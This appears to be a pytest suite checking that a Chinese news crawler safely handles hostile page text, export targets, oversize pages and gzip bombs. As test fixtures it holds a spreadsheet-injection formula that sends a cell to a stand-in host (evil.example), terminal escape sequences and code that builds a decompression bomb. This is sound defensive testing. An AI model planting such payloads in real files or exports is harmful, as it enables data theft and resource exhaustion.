"""Page text is hostile input: what a crawl stores from it must be safe wherever it is shown —
a terminal (`workercrawl search`), a spreadsheet (`export --format csv`) — and the commands that
write files must never clobber what they should not. Real crawl, real processes, real files."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import stat
import subprocess
import sys
import time

import pytest

from conftest import PROJECT

ENV = {**os.environ, "PYTHONPATH": str(PROJECT)}
ESCAPES = "\x1b[31m\x07\x08\x7f\x9b"
CONTROLS = "\x1b\x07\x08\x7f\x9b"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def workercrawl(cwd, *args, stdout=subprocess.PIPE, timeout=120):
    return subprocess.run([sys.executable, "-m", "workercrawl.cli", *map(str, args)], cwd=cwd, env=ENV,
                          stdout=stdout, stderr=subprocess.PIPE, timeout=timeout)


def hostile(path: str, body: bytes) -> bytes:
    """Terminal escapes in one article's headline and body, a spreadsheet formula as another's title."""
    if path.endswith("7100001.shtml"):
        return body.replace("全国总工会部署开展".encode(), f"全国总工会{ESCAPES}部署开展".encode()).replace(
            "记者日前从".encode(), f"记者日前{ESCAPES}从".encode())
    if path.endswith("7100002.shtml"):
        title = "杭州新建户外劳动者服务站点120个 快递小哥有了“暖心驿站”".encode()
        return body.replace(title, FORMULA.encode())
    return body


@pytest.fixture
def hostile_db(replica, crawl):
    site, _ = replica("workercn")
    site.rewrite = hostile
    return crawl("workercn", start_url=f"{site.url}/acftu").db


def test_control_characters_never_reach_the_store_or_the_terminal(hostile_db, tmp_path):
    conn = sqlite3.connect(hostile_db)
    title, body = conn.execute("SELECT title, body FROM articles WHERE url LIKE '%7100001%'").fetchone()
    conn.close()
    assert title == "全国总工会[31m部署开展2024年职工技能竞赛活动"  # the ESC, BEL, BS, DEL and CSI are gone
    assert not any(ch in body for ch in CONTROLS) and "记者日前[31m从" in body
    result = workercrawl(tmp_path, "search", "技能竞赛", "--db", hostile_db)
    assert result.returncode == 0 and "技能竞赛" in result.stdout.decode()
    assert not any(ch in result.stdout.decode() for ch in CONTROLS)


def test_csv_cells_that_spreadsheets_would_run_are_neutralised_jsonl_stays_exact(hostile_db, tmp_path):
    out = tmp_path / "a.csv"
    assert workercrawl(tmp_path, "export", "--format", "csv", "--bom", "--output", out, "--db", hostile_db).returncode == 0
    rows = list(csv.DictReader(out.read_text("utf-8-sig").splitlines()))
    titles = {row["title"] for row in rows}
    assert "'" + FORMULA in titles and FORMULA not in titles
    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row.values())
    jsonl = workercrawl(tmp_path, "export", "--format", "jsonl", "--db", hostile_db).stdout.decode()
    assert FORMULA in {json.loads(line)["title"] for line in jsonl.splitlines()}


def test_export_writes_through_a_device_node_and_a_symlink_and_reports_write_errors(hostile_db, tmp_path):
    node = tmp_path / "null"
    try:
        os.mknod(node, 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    except PermissionError:
        pytest.skip("mknod needs root")
    assert workercrawl(tmp_path, "export", "--format", "jsonl", "--output", node, "--db", hostile_db).returncode == 0
    assert stat.S_ISCHR(node.lstat().st_mode)  # still the device, not a regular file renamed over it

    real = tmp_path / "exports" / "latest.jsonl"
    real.parent.mkdir()
    real.write_text("old\n")
    link = tmp_path / "latest.jsonl"
    link.symlink_to(real)
    assert workercrawl(tmp_path, "export", "--format", "jsonl", "--output", link, "--db", hostile_db).returncode == 0
    stored = sqlite3.connect(hostile_db).execute("SELECT count(*) FROM articles").fetchone()[0]
    assert link.is_symlink() and len(real.read_text("utf-8").splitlines()) == stored > 1

    with open("/dev/full", "wb") as full:
        result = workercrawl(tmp_path, "export", "--format", "jsonl", "--db", hostile_db, stdout=full)
    err = result.stderr.decode()
    assert result.returncode == 1 and "Traceback" not in err
    assert err.strip().splitlines() == ["Error: cannot write to standard output (No space left on device)"]


def test_an_overlong_search_query_is_refused_at_once(hostile_db, tmp_path):
    started = time.monotonic()
    result = workercrawl(tmp_path, "search", "工会职工" * 1500, "--db", hostile_db)
    assert time.monotonic() - started < 30
    err = result.stderr.decode()
    assert result.returncode == 2 and "search takes at most 200" in err and "Traceback" not in err
    words = " ".join(["工会"] * 40)
    result = workercrawl(tmp_path, "search", words, "--db", hostile_db)
    assert result.returncode == 2 and "search takes at most 24" in result.stderr.decode()


def test_a_gzip_bomb_is_a_too_large_reject_not_a_memory_error(tmp_path):
    """A saved page.html.gz of 600 KB that decompresses to 600 MB (the one reported reached
    5.6 GB and a MemoryError traceback): decompression stops at the cap, like a crawl's
    DOWNLOAD_MAXSIZE, and the page is a `too-large` reject."""
    import gzip
    import resource

    bomb = tmp_path / "page.html.gz"
    with gzip.open(bomb, "wb", compresslevel=1) as out:
        out.write(b"<html><body><p>")
        chunk = b"\0" * (1 << 20)
        for _ in range(600):
            out.write(chunk)
    (tmp_path / "page.html.url").write_text("https://www.workercn.cn/c/2024-05-20/1.shtml")

    def one_gigabyte():  # address space: a child that tries to hold the 600 MB fails (MemoryError)
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    result = subprocess.run([sys.executable, "-m", "workercrawl.cli", "extract", str(bomb), "--db", str(tmp_path / "w.db")],
                            cwd=tmp_path, env=ENV, capture_output=True, preexec_fn=one_gigabyte, timeout=120)
    assert result.returncode == 0 and b"Traceback" not in result.stderr, result.stderr[-2000:]
    assert "rejected (too-large:" in result.stdout.decode()
    conn = sqlite3.connect(tmp_path / "w.db")
    assert conn.execute("SELECT url, reason FROM rejects").fetchall() == [
        ("https://www.workercn.cn/c/2024-05-20/1.shtml", "too-large")]


def test_oversize_pages_are_settled_and_failure_details_say_what_happened(crawl):
    """A page cancelled by DOWNLOAD_MAXSIZE was recorded as download-error and fetched (10–20 MB)
    again every run; data-loss details were empty; 'after retries' was said of unretried statuses."""
    from faultserver import FAULTS, FaultServer, path

    server = FaultServer(timeout_delay=1.5)
    try:
        settings = {"RETRY_TIMES": "1", "DOWNLOAD_TIMEOUT": "1", "DOWNLOAD_MAXSIZE": str(1_000_000)}
        first = crawl("workercn", settings, start_url=f"{server.url}/list/")
        conn = sqlite3.connect(first.db)
        found = {url.removeprefix(server.url): (reason, detail) for url, reason, detail in
                 conn.execute("SELECT url, reason, detail FROM rejects")}
        conn.close()
        number = {fault: n for n, fault in FAULTS.items()}
        reason, detail = found[path(number["huge"])]
        assert reason == "too-large" and "DOWNLOAD_MAXSIZE" in detail
        assert found[path(number["truncated"])][0] == "connection-error"
        assert all(detail and not detail.endswith(": ") for _, detail in found.values()), found
        assert found[path(number["503"])][1] == "HTTP 503 after 1 retries"
        assert found[path(number["404"])][1] == "HTTP 404"
        hits = server.hits(path(number["huge"]))
        crawl("workercn", settings, start_url=f"{server.url}/list/")
        assert server.hits(path(number["huge"])) == hits  # settled: not downloaded again
    finally:
        server.stop()
